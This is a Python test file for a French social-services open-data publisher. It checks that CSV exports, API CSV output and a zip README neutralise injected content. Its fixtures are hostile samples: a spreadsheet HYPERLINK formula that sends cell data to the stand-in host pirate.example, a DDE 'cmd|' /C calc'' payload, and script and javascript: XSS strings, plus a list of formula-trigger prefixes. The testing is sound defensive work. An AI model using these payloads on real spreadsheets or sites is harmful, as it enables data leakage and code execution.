"""Formula injection: what the CCAS types (a site's name, the organisation's name, a
revision's motif) reaches every published CSV, the API's CSV exports and the zips'
README. Planted here as an attacker would type it, then looked for the way a reader
would meet it: every CSV parsed as a spreadsheet would, every text cell of the database
Datasette serves, the README as Markdown.
"""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import zipfile
from pathlib import Path

import pytest

from conftest import Server, make_folder, release

from ccas_opendata.publisher import read_publisher
from ccas_opendata.downloads import readme

FORMULA = '=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")'
ORGANISATION = "@SUM(1+1)*cmd|' /C calc'!A0 CCAS de Val-d'Orbe"
# Independent of the code under test: what a spreadsheet would run, and what it would not.
RUNS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?[0-9 .()]+$")


def runnable(cell: str) -> bool:
    return cell.startswith(RUNS) and not PLAIN_NUMBER.match(cell)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, small_inputs) -> Path:
    folder = make_folder(tmp_path_factory.mktemp("injection") / "ccas")
    lieux = folder / "metadata" / "lieux.csv"
    rows = list(csv.reader(io.StringIO(lieux.read_text(encoding="utf-8"))))
    rows[1][rows[0].index("nom")] = FORMULA
    rows[2][rows[0].index("nom")] = "-2+3 Maison des Tilleuls"
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    lieux.write_text(buffer.getvalue(), encoding="utf-8")
    organisation = folder / "metadata" / "organisation.yml"
    text = re.sub(r"^nom: .*$", "nom: " + repr(ORGANISATION).replace("\\'", "''"), organisation.read_text(encoding="utf-8"), flags=re.M)
    organisation.write_text(text, encoding="utf-8")
    for year in (2023, 2024):
        result = release(folder, year, small_inputs[year])
        assert result.exit_code == 0, result
    return folder


def published_csvs(folder: Path) -> dict[str, str]:
    found = {
        str(p.relative_to(folder)): p.read_text(encoding="utf-8")
        for p in folder.rglob("*.csv")
        if p.relative_to(folder).parts[0] in ("datapackages", "publish")
    }
    for archive in (folder / "telechargements").glob("*.zip"):
        with zipfile.ZipFile(archive) as z:
            found.update({f"{archive.name}/{n}": z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".csv")})
    return found


@pytest.mark.slow
def test_no_published_csv_holds_a_cell_a_spreadsheet_would_run(hostile: Path):
    files = published_csvs(hostile)
    assert len(files) > 10
    planted = 0
    for name, text in files.items():
        for row in csv.reader(io.StringIO(text)):
            assert not any(runnable(cell) for cell in row), (name, [c for c in row if runnable(c)])
            planted += sum(cell == "'" + FORMULA for cell in row)
    assert planted >= 3  # the site's name is there, neutralised: in the package, its zip, the national lieux file


@pytest.mark.slow
def test_negative_figures_stay_numbers(hostile: Path):
    rows = list(csv.DictReader(io.StringIO((hostile / "datapackages" / "2024" / "indicateurs.csv").read_text(encoding="utf-8"))))
    negative = [r["valeur"] for r in rows if r["valeur"].startswith("-")]
    assert negative, "aucune évolution négative dans l'année de test"
    assert all(float(v) < 0 for v in negative)


@pytest.mark.slow
def test_the_api_csv_exports_hold_no_cell_a_spreadsheet_would_run(hostile: Path):
    with sqlite3.connect(hostile / "publish" / "indicateurs.db") as db:
        tables = [r[0] for r in db.execute("select name from sqlite_master where type='table' and name not like 'sqlite_%'")]
    server = Server(hostile, plain=True)
    try:
        for table in tables:
            text = server.get(f"/indicateurs/{table}.csv?_stream=on&_size=max").text
            for row in csv.reader(io.StringIO(text)):
                assert not any(runnable(cell) for cell in row), (table, row)
        lieux = server.get("/indicateurs/lieux.json?_shape=array").json()
        assert "'" + FORMULA in [r["nom"] for r in lieux]
    finally:
        server.stop()


@pytest.mark.slow
def test_the_package_states_the_rule(hostile: Path):
    import json

    descriptor = json.loads((hostile / "datapackages" / "2023" / "datapackage.json").read_text(encoding="utf-8"))
    assert "précédées d'une apostrophe" in descriptor["cellulesDeTexte"]
    with zipfile.ZipFile(hostile / "telechargements" / "ccas-opendata-2023.zip") as z:
        assert "## Cellules de texte" in z.read("README.md").decode("utf-8")


def test_the_zip_readme_shows_the_motif_and_name_as_text(tmp_path: Path):
    folder = make_folder(tmp_path / "ccas")
    publisher = read_publisher(folder)
    publisher = type(publisher)(**{**publisher.__dict__, "nom": "CCAS <img src=x onerror=alert(1)> de **Val**"})
    descriptor = {
        "title": f"Activité de {publisher.nom}",
        "created": "2026-01-01T00:00:00Z",
        "description": "d",
        "resources": [],
        "secretStatistique": {"methode": "m", "seuil": 11, "largeurProtection": 11},
    }
    motif = "Saisies <script>alert(1)</script> [cliquez](javascript:alert(1)) _x_\n# titre"
    text = readme(publisher, descriptor, 2023, "1.1.0", [{"version": "1.1.0", "date": "2026-01-01", "motif": motif}])
    assert not re.search(r"(?<!\\)[<>\[\]]", text.split("## Ce que contiennent")[0] + text.split("## Versions")[1].split("## Licence")[0])
    assert "\\<script\\>alert(1)\\</script\\> \\[cliquez\\](javascript:alert(1)) \\_x\\_ \\# titre" in text
    assert "de \\*\\*Val\\*\\*" in text
    assert not [line for line in text.splitlines() if line.startswith("# ") and "titre" in line]
